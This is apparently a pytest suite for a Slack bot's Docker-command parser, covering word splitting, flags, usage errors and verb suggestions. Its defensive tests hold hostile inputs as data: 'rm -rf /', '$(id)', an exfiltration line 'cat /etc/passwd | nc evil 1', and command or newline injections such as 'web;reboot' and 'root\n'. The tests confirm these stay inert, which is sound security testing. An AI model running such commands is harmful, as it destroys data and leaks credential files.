"""parse(): shell-like word splitting (never a shell), docker-CLI flag conventions, errors with usage."""

from __future__ import annotations

from typing import Any

import pytest

from bot.parsing import parse, slack_unescape, split_words
from bot.suggest import closest_verbs, unknown_verb_message
from bot.verbs import VERBS
from dockbolt.core.errors import UsageError, UserError


def usage_error(text: str) -> UsageError:
    with pytest.raises(UsageError) as info:
        parse(text)
    return info.value


def args(text: str) -> dict[str, Any]:
    return parse(text).args.to_dict()


# --- words -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("ps -a", ["ps", "-a"]),
        ("  ps   -a  ", ["ps", "-a"]),
        ("run busybox echo 'a b'", ["run", "busybox", "echo", "a b"]),
        ("run busybox echo \"a 'b' c\"", ["run", "busybox", "echo", "a 'b' c"]),
        (r"run busybox echo a\ b", ["run", "busybox", "echo", "a b"]),
        ("run busybox echo ''", ["run", "busybox", "echo", ""]),
        ("run busybox echo # not a comment", ["run", "busybox", "echo", "#", "not", "a", "comment"]),
    ],
)
def test_split_words_like_a_shell(text: str, words: list[str]) -> None:
    assert split_words(text) == words


@pytest.mark.parametrize("text", ["run busybox echo 'oops", 'run busybox echo "oops', "stop 'web"])
def test_unbalanced_quote_is_a_usage_error(text: str) -> None:
    err = usage_error(text)
    assert str(err).startswith("unbalanced quote")


def test_trailing_backslash_is_a_usage_error() -> None:
    assert "backslash" in str(usage_error("stop web\\"))


def test_usage_error_is_a_user_error() -> None:
    assert isinstance(usage_error("nope"), UserError)


@pytest.mark.parametrize("text", ["", "   ", "\t\n"])
def test_empty_text_means_help(text: str) -> None:
    cmd = parse(text)
    assert (cmd.verb, cmd.args.to_dict()) == ("help", {"verb": None})


def test_parsed_command_keeps_the_stripped_text() -> None:
    assert parse("  stop web  ").text == "stop web"


def test_verb_is_case_insensitive() -> None:
    assert parse("PS -a").verb == "ps"


# --- Slack's entity encoding ---------------------------------------------------------------------------


def test_slack_unescape_decodes_exactly_three_entities() -> None:
    assert slack_unescape("a &amp;&amp; b &lt;x&gt; &quot; &amp;lt;") == "a && b <x> &quot; &lt;"


def test_slack_encoded_text_reaches_args_decoded() -> None:
    cmd = parse("run busybox sh -c 'true &amp;&amp; echo &lt;ok&gt;'")
    assert cmd.args.to_dict()["command"] == ["sh", "-c", "true && echo <ok>"]


# --- shell metacharacters are inert ----------------------------------------------------------------------


def test_run_command_passes_through_verbatim() -> None:
    assert args("run busybox sh -c 'echo $HOME; rm -rf /'")["command"] == ["sh", "-c", "echo $HOME; rm -rf /"]


@pytest.mark.parametrize(
    ("tail", "command"),
    [
        ("echo a; rm -rf /", ["echo", "a;", "rm", "-rf", "/"]),
        ("echo a && reboot", ["echo", "a", "&&", "reboot"]),
        ("echo $(id) `id`", ["echo", "$(id)", "`id`"]),
        ("cat /etc/passwd | nc evil 1", ["cat", "/etc/passwd", "|", "nc", "evil", "1"]),
        ("echo > /x < /y", ["echo", ">", "/x", "<", "/y"]),
        ("echo ${PATH} ~ *", ["echo", "${PATH}", "~", "*"]),
    ],
)
def test_shell_metacharacters_arrive_as_literal_words(tail: str, command: list[str]) -> None:
    assert args(f"run busybox {tail}")["command"] == command


def test_metacharacters_in_a_name_are_refused_not_run() -> None:
    err = usage_error("stop 'web;reboot'")
    assert "web;reboot" in str(err)


# --- flag conventions ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "stop -t 5 web",
        "stop -t5 web",
        "stop -t=5 web",
        "stop --time 5 web",
        "stop --time=5 web",
        "stop web -t 5",
        "stop web --time=5",
    ],
)
def test_value_flag_spellings_and_placement(text: str) -> None:
    assert args(text) == {"names": ["web"], "timeout": 5}


def test_flags_between_positionals() -> None:
    assert args("stop a -t 3 b") == {"names": ["a", "b"], "timeout": 3}


def test_combined_short_booleans() -> None:
    assert args("logs -t web")["timestamps"] is True
    assert args("ps -a")["all"] is True


def test_combined_group_may_end_with_a_value_flag() -> None:
    # pflag's rule (docker's too): `-tn 5` is `-t -n 5`, `-tn5` is `-t -n 5`.
    assert args("logs -tn 5 web") == args("logs -t -n 5 web") == args("logs -tn5 web")
    assert args("logs -tn5 web")["tail"] == 5


def test_combined_group_with_an_unknown_letter_names_it() -> None:
    err = usage_error("rm -fx web")
    assert "`x`" in str(err) and "`-fx`" in str(err)
    assert err.usage == VERBS["rm"].usage


@pytest.mark.parametrize(
    ("text", "value"), [("ps --all=false", False), ("ps --all=true", True), ("ps -a=0", False)]
)
def test_boolean_flags_accept_explicit_values(text: str, value: bool) -> None:
    assert args(text)["all"] is value


def test_boolean_flag_with_a_bad_value() -> None:
    assert "`maybe`" in str(usage_error("ps --all=maybe"))


def test_double_dash_ends_flags() -> None:
    # After `--` a word starting with "-" is a positional (and here an invalid container name).
    err = usage_error("stop -- -t")
    assert "`-t`" in str(err) and "not a valid container name" in str(err)


def test_single_dash_is_a_positional() -> None:
    assert "not a valid container name" in str(usage_error("stop -"))


def test_repeated_single_value_flag_keeps_the_last() -> None:
    assert args("stop -t 1 -t 2 web")["timeout"] == 2


def test_repeatable_flag_collects_in_order() -> None:
    assert args("run -e A=1 --env B=2 -eC=3 busybox")["env"] == ["A=1", "B=2", "C=3"]


def test_value_flag_takes_the_next_word_even_if_it_looks_like_a_flag() -> None:
    # pflag does the same: `--name -x` names the container "-x" (refused here by the name check).
    assert "`-x`" in str(usage_error("run --name -x busybox"))


@pytest.mark.parametrize(("text", "flag"), [("stop web -t", "`-t`"), ("stop web --time", "`--time`")])
def test_missing_flag_value(text: str, flag: str) -> None:
    err = usage_error(text)
    assert "needs an argument" in str(err) and flag in str(err)
    assert err.usage == VERBS["stop"].usage


@pytest.mark.parametrize(
    ("text", "flag"),
    [("stop --bogus web", "`--bogus`"), ("logs web --format x", "`--format`"), ("stop -x web", "`x`")],
)
def test_unknown_flag_names_the_flag_and_carries_usage(text: str, flag: str) -> None:
    err = usage_error(text)
    assert "unknown" in str(err) and flag in str(err)
    assert err.usage == VERBS[text.split()[0]].usage


def test_bad_flag_value_names_flag_and_value() -> None:
    err = usage_error("stop --time=soon web")
    assert "`soon`" in str(err) and "`--time`" in str(err)
    assert err.usage == VERBS["stop"].usage


# --- run stops at IMAGE ----------------------------------------------------------------------------------


def test_run_flags_after_image_belong_to_the_command() -> None:
    a = args("run -e A=1 busybox ls -la --name x -e B=2")
    assert a["command"] == ["ls", "-la", "--name", "x", "-e", "B=2"]
    assert (a["env"], a["name"]) == (["A=1"], None)


def test_run_double_dash_after_image_is_passed_verbatim() -> None:
    assert args("run busybox -- echo hi")["command"] == ["--", "echo", "hi"]


def test_run_double_dash_before_image_ends_flags() -> None:
    a = args("run --name web -- busybox echo hi")
    assert (a["image"], a["command"], a["name"]) == ("busybox", ["echo", "hi"], "web")


def test_run_help_word_after_image_is_part_of_the_command() -> None:
    assert args("run busybox ls --help")["command"] == ["ls", "--help"]


# --- help shortcuts --------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["stop --help", "stop -h", "stop web --help", "--help stop", "-h stop"])
def test_help_flag_asks_about_the_verb(text: str) -> None:
    cmd = parse(text)
    assert (cmd.verb, cmd.args.to_dict()) == ("help", {"verb": "stop"})


def test_unknown_flag_before_help_is_still_reported() -> None:
    assert "`--bogus`" in str(usage_error("stop --bogus --help"))


# --- positional counts -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("stop", "at least 1 argument"),
        ("inspect", "exactly 1 argument"),
        ("inspect a b", "exactly 1 argument (got 2)"),
        ("images extra", "takes no arguments"),
        ("whoami me", "takes no arguments"),
        ("help stop start", "at most 1 argument (got 2)"),
        ("logs", "exactly 1 argument"),
        ("run", "at least 1 argument"),
        ("run -d --name web", "at least 1 argument"),
    ],
)
def test_wrong_number_of_positionals(text: str, fragment: str) -> None:
    err = usage_error(text)
    assert fragment in str(err)
    assert err.usage == VERBS[text.split()[0]].usage


def test_at_host_token_is_an_ordinary_positional() -> None:
    # Host targeting is not supported yet: "@prod" is checked like any other container name.
    assert "`@prod`" in str(usage_error("stop web @prod"))
    assert args("run busybox echo @prod")["command"] == ["echo", "@prod"]
    assert "exactly 1 argument (got 2)" in str(usage_error("inspect web @prod"))


# --- unknown verbs ---------------------------------------------------------------------------------------


def test_unknown_verb_suggests_the_closest() -> None:
    err = usage_error("stpo web")
    assert str(err) == "unknown command `stpo`. Did you mean `stop`? Try `help`."


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("stpo", ["stop"]),
        ("rmi", ["rm"]),
        ("imgaes", ["images"]),
        ("insp", ["inspect"]),
        ("sta", ["start", "stats"]),
        ("r", ["restart", "rm", "rollback", "run"]),
        ("LOG", ["logs"]),
        ("kubectl", []),
        ("sp", ["ps"]),  # a swap, and `stop` (2 edits) changes things
        ("stpo", ["stop"]),
        ("lgos", ["logs"]),
        ("imagse", ["images"]),
    ],
)
def test_closest_verbs(word: str, expected: list[str]) -> None:
    harmless = {n for n, s in VERBS.items() if s.default_role in ("everyone", "viewer")}
    assert closest_verbs(word, VERBS, harmless) == expected


def test_at_equal_distance_a_reading_verb_is_suggested_over_one_that_changes() -> None:
    assert closest_verbs("rn", ["rm", "ps", "run"]) == ["rm", "run"]
    assert closest_verbs("rn", ["rm", "ps", "run"], harmless={"run"}) == ["run"]
    assert unknown_verb_message("sp", VERBS) == "unknown command `sp`. Did you mean `ps`? Try `help`."


def test_unknown_verb_with_several_candidates_lists_them() -> None:
    expected = "unknown command `sta`. Did you mean `start` or `stats`? Try `help`."
    assert unknown_verb_message("sta", VERBS) == expected


def test_unknown_verb_without_candidates_points_to_help() -> None:
    assert str(usage_error("kubectl get pods")) == "unknown command `kubectl`. Try `help`."


def test_unknown_verb_message_cannot_be_broken_by_backticks() -> None:
    assert "`a'b`" in str(usage_error("a`b"))


@pytest.mark.parametrize("text", ["run -u 'root\n' busybox", "run -u '0\n' busybox",
                                  "run --network 'host\n' busybox", "stop 'web\n'", "run 'busybox\n'",
                                  "run --name 'web\n' busybox"])
def test_a_trailing_newline_does_not_slip_past_a_value_check(text: str) -> None:
    # `$` also matches before a final "\n": `-u 'root\n'` used to pass and need no root-user grant.
    with pytest.raises(UsageError):
        parse(text)
